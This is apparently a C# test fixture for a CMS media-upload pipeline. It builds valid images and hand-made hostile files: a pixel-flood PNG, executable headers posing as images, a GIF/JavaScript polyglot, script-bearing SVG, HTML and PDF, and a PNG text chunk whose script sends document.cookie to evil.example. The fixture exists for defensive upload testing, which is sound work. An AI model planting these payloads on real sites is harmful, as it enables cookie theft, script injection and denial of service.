using System.Buffers.Binary;
using System.Text;
using ImageMagick;
using SqmSite.Cms.Media;

namespace SqmSite.Testing;

/// <summary>
/// Good and bad files for the media tests, made on the spot: real images encoded by Magick.NET (under the site's
/// locked-down policy, which every test process sets up first), and hand-built hostile ones.
/// </summary>
public static class TestImages
{
    static TestImages() => MagickSecurity.EnsureInitialized(new MediaOptions());

    public static byte[] Png(int width = 640, int height = 480) => Encode(width, height, MagickFormat.Png);

    public static byte[] Jpeg(int width = 640, int height = 480) => Encode(width, height, MagickFormat.Jpeg);

    public static byte[] WebP(int width = 640, int height = 480) => Encode(width, height, MagickFormat.WebP);

    public static byte[] Gif(int width = 320, int height = 240) => Encode(width, height, MagickFormat.Gif);

    /// <summary>A PNG of random pixels: it does not compress, so its size is about width x height x 3 bytes.</summary>
    public static byte[] NoisyPng(int width, int height)
    {
        var pixels = new byte[width * height * 3];
        new Random(42).NextBytes(pixels);
        using var image = new MagickImage();
        image.ReadPixels(pixels, new PixelReadSettings((uint)width, (uint)height, StorageType.Char, PixelMapping.RGB));
        image.Format = MagickFormat.Png;
        return image.ToByteArray();
    }

    /// <summary>A camera JPEG: EXIF with a GPS position, and an orientation tag saying "rotate 90° clockwise to view".</summary>
    public static byte[] CameraJpeg(int width = 600, int height = 400)
    {
        using var image = Gradient(width, height);
        var exif = new ExifProfile();
        exif.SetValue(ExifTag.Make, "TestCam");
        exif.SetValue(ExifTag.GPSLatitudeRef, "N");
        exif.SetValue(ExifTag.GPSLatitude, [new Rational(40, 1), new Rational(42, 1), new Rational(46, 1)]);
        exif.SetValue(ExifTag.GPSLongitudeRef, "W");
        exif.SetValue(ExifTag.GPSLongitude, [new Rational(74, 1), new Rational(0, 1), new Rational(21, 1)]);
        exif.SetValue(ExifTag.Orientation, (ushort)6);
        image.SetProfile(exif);
        image.Orientation = Orientation.RightTop;
        image.Format = MagickFormat.Jpeg;
        return image.ToByteArray();
    }

    /// <summary>A PNG whose header declares 20000 x 20000 pixels (1.2 GB of pixels) with a few bytes of data: a "pixel flood".</summary>
    public static byte[] PixelFloodPng(uint width = 20_000, uint height = 20_000)
    {
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 2; // RGB
        var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        WriteChunk(png, "IHDR", ihdr);
        WriteChunk(png, "IDAT", [0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
        WriteChunk(png, "IEND", []);
        return png.ToArray();
    }

    public static byte[] Truncated(byte[] file, double keep = 0.6) => file[..(int)(file.Length * keep)];

    /// <summary>The start of a Linux program, as a file renamed to photo.png would begin.</summary>
    public static byte[] Elf() => [0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00, .. new byte[56], .. "\0\0\0\0"u8];

    /// <summary>The start of a Windows program.</summary>
    public static byte[] WindowsExe() => [.. "MZ\x90\0\x03\0\0\0"u8, .. new byte[56], .. "This program cannot be run in DOS mode."u8];

    /// <summary>A valid PNG with a web page appended after its end: browsers that sniff would run it.</summary>
    public static byte[] PngWithHtmlAppended() => [.. Png(64, 64), .. "<html><body><script>alert(document.cookie)</script></body></html>"u8];

    /// <summary>A valid PNG carrying a script in a text chunk (inside the file's structure).</summary>
    public static byte[] PngWithScriptInText()
    {
        var png = Png(64, 64);
        var iend = png.Length - 12;
        var chunk = new MemoryStream();
        WriteChunk(chunk, "tEXt", [.. "Comment\0"u8, .. "<script>fetch('//evil.example/'+document.cookie)</script>"u8]);
        return [.. png[..iend], .. chunk.ToArray(), .. png[iend..]];
    }

    /// <summary>
    /// A GIF that is also JavaScript: its width bytes read "/*", opening a comment that hides the picture, and the
    /// script follows the GIF's end.
    /// </summary>
    public static byte[] GifJavaScriptPolyglot()
    {
        var gif = Gif(16, 16);
        gif[6] = (byte)'/';
        gif[7] = (byte)'*';
        return [.. gif, .. "*/=alert(document.domain);"u8];
    }

    public static byte[] SvgWithScript() =>
        """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(1)</script><foreignObject><iframe src="https://evil.example"/></foreignObject><circle r="40" cx="50" cy="50"/></svg>"""u8.ToArray();

    public static byte[] Html() => "<!doctype html><html><body><script>alert(1)</script></body></html>"u8.ToArray();

    public static byte[] Pdf(string text = "Award rules") => TestPdfs.Plain(text);

    public static byte[] PdfWithJavaScript() => TestPdfs.Classic("", "/OpenAction 5 0 R", "", "<</S/JavaScript/JS(app.alert('hi'))>>");

    public static MagickImage Decode(byte[] data) => new(data);

    private static byte[] Encode(int width, int height, MagickFormat format)
    {
        using var image = Gradient(width, height);
        image.Format = format;
        return image.ToByteArray();
    }

    /// <summary>A picture with structure (gradients and a bright square off-centre), so crops can be told apart.</summary>
    private static MagickImage Gradient(int width, int height)
    {
        var pixels = new byte[width * height * 3];
        for (var y = 0; y < height; y++)
        {
            for (var x = 0; x < width; x++)
            {
                var i = (y * width + x) * 3;
                var inSquare = x > width * 0.7 && x < width * 0.9 && y > height * 0.2 && y < height * 0.5;
                pixels[i] = inSquare ? (byte)255 : (byte)(x * 255 / width);
                pixels[i + 1] = inSquare ? (byte)255 : (byte)(y * 255 / height);
                pixels[i + 2] = inSquare ? (byte)0 : (byte)128;
            }
        }

        var image = new MagickImage();
        image.ReadPixels(pixels, new PixelReadSettings((uint)width, (uint)height, StorageType.Char, PixelMapping.RGB));
        return image;
    }

    private static void WriteChunk(Stream stream, string type, byte[] data)
    {
        var header = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(header, (uint)data.Length);
        stream.Write(header);
        var typeAndData = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        stream.Write(typeAndData);
        BinaryPrimitives.WriteUInt32BigEndian(header, Crc(typeAndData));
        stream.Write(header);
    }

    private static uint Crc(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return crc ^ 0xFFFFFFFFu;
    }
}
